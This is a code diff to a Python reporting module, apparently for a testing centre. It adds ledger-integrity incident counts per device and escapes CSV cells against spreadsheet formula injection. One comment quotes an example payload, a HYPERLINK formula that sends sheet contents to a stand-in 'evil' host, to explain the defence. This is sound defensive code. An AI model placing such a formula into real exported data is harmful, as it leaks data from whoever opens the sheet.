@@ -27,7 +27,7 @@ from typing import Any
 from sqlalchemy import func, select
 from sqlalchemy.orm import Session
 
-from centre.models import StoredRecord
+from centre.models import Device, Incident, StoredRecord
 
 UNKNOWN = "(none)"
 
@@ -62,6 +62,9 @@ class OverrideReport:
     rooms: list[dict[str, Any]]
     proctors: list[dict[str, Any]]
     totals: dict[str, Any]
+    # Open ledger-integrity incidents per device: an override report that counts only the
+    # records that arrived would hide the ones a kiosk lost or rewrote (heads.py).
+    ledger_incidents: list[dict[str, Any]] = field(default_factory=list)
 
     def to_dict(self) -> dict[str, Any]:
         return asdict(self)
@@ -89,8 +92,23 @@ class OverrideReport:
             ("total", [self.totals]),
         ):
             for g in groups:
-                writer.writerow({**g, "scope": scope, "rooms": ";".join(g["rooms"])})
+                row = {**g, "scope": scope, "rooms": ";".join(g["rooms"])}
+                writer.writerow({k: csv_cell(v) for k, v in row.items()})
         return out.getvalue()
+
+
+# A spreadsheet runs a cell that starts with one of these as a formula: a proctor or session
+# id like `=HYPERLINK("http://evil/?"&A1)` would leak the sheet or run code on the auditor's
+# machine (OWASP "CSV injection"). Such text cells get a leading apostrophe, which the
+# spreadsheet shows as text and does not evaluate.
+_FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value: Any) -> Any:
+    """A value safe to write into a CSV cell an auditor opens in a spreadsheet."""
+    if isinstance(value, str) and value.startswith(_FORMULA_PREFIXES):
+        return "'" + value
+    return value
 
 
 def _add(g: GroupCounts, rtype: str, decision: str | None, n: int, room: str | None) -> None:
@@ -185,4 +203,47 @@ def override_report(
         rooms=dump(list(rooms.values())),
         proctors=dump(proctors),
         totals=total.to_dict(alert),
+        ledger_incidents=ledger_incidents(db, room=room),
     )
+
+
+LEDGER_INCIDENT_KINDS = (
+    "head_rollback",
+    "head_mismatch",
+    "seq_reused",
+    "gap",
+    "fork",
+    "prev_mismatch",
+    "chain_broken",
+)
+
+
+def ledger_incidents(db: Session, *, room: str | None = None) -> list[dict[str, Any]]:
+    """Open incidents that say a device's ledger lost or rewrote records, per device and
+    kind (the device's room, counts and the latest detail; no applicant data)."""
+    q = (
+        select(Incident, Device.room)
+        .join(Device, Device.id == Incident.device_id, isouter=True)
+        .where(Incident.kind.in_(LEDGER_INCIDENT_KINDS), Incident.resolved_at.is_(None))
+        .order_by(Incident.id)
+    )
+    if room:
+        q = q.where(Device.room == room)
+    groups: dict[tuple[str, str], dict[str, Any]] = {}
+    for incident, device_room in db.execute(q):
+        key = (incident.device_id or UNKNOWN, incident.kind)
+        g = groups.setdefault(
+            key,
+            {
+                "device_id": key[0],
+                "room": device_room,
+                "kind": incident.kind,
+                "incidents": 0,
+                "occurrences": 0,
+            },
+        )
+        g["incidents"] += 1
+        g["occurrences"] += incident.occurrences
+        g["last_seq"] = incident.seq
+        g["detail"] = incident.detail
+    return [groups[k] for k in sorted(groups)]
